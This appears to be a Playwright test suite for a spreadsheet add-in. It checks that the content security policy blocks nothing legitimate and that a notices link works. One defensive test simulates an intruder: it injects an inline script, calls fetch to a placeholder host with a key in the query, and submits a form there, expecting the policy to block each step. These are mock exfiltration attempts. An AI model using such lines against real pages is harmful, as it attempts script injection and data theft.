import type { Page } from "@playwright/test";
import { expect, numberIn, openWorkbench, test } from "./demo";

declare global {
  interface Window {
    violations?: string[];
  }
}

/** Every breach of the content security policy in this page and its frames, as the browser tells it. */
async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = (window.violations = []);
    window.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
      seen.push(`${violatedDirective} ${blockedURI} ${sample}`),
    );
  });
  return async () =>
    (await Promise.all(page.frames().map((frame) => frame.evaluate(() => window.violations ?? [])))).flat();
}

test("formulas, live cells and every part of the pane work under the policy, and nothing breaches it", async ({
  page,
  demo,
}) => {
  const violations = await watchViolations(page);
  await openWorkbench(page, demo.url);
  await page.waitForFunction(() => window.wb?.host.paneVisible === true);
  expect(await numberIn(page, "B5")).toBeGreaterThan(0);
  expect(await numberIn(page, "C5")).toBeGreaterThan(0);
  const pane = page.frameLocator("iframe");
  for (const part of ["Insert", "Chart", "Sheet", "Usage", "Problems", "Settings", "Live"]) {
    await pane.getByRole("tab", { name: part }).first().click();
    await expect(pane.getByRole("tabpanel").first()).not.toBeEmpty();
  }
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  expect(await violations()).toEqual([]);
});

test.describe("an intruder", () => {
  test.use({ provoked: /Content Security Policy/ });

  test("the policy lets no script of the page's own in, no foreign one, and no key go out unencrypted", async ({
    page,
    demo,
  }) => {
    const violations = await watchViolations(page);
    await openWorkbench(page, demo.url);
    const addin = page.frames().find((frame) => frame.url().includes("taskpane.html"));
    await addin?.evaluate(async () => {
      const inline = document.createElement("script");
      inline.textContent = "window.stolen = true";
      document.head.append(inline);
      await fetch("http://192.0.2.1/?key=1").catch(() => undefined);
      const form = document.createElement("form");
      form.action = "https://192.0.2.1/";
      document.body.append(form);
      form.submit();
    });
    expect(await addin?.evaluate(() => "stolen" in window)).toBe(false);
    await expect
      .poll(async () => (await violations()).map((told) => told.split(" ")[0]))
      .toEqual(expect.arrayContaining(["script-src-elem", "connect-src", "form-action"]));
  });
});

test("the notices of the software inside are one click away", async ({ workbench: page }) => {
  const pane = page.frameLocator("iframe");
  await pane.getByRole("tab", { name: "Settings" }).click();
  const link = pane.getByRole("link", { name: "Notices of the software inside" });
  const address = new URL((await link.getAttribute("href")) ?? "", `${page.url()}addin/`).href;
  const notices = await page.request.get(address);
  expect(notices.ok()).toBe(true);
  expect(await notices.text()).toContain("TradingView Lightweight Charts");
});
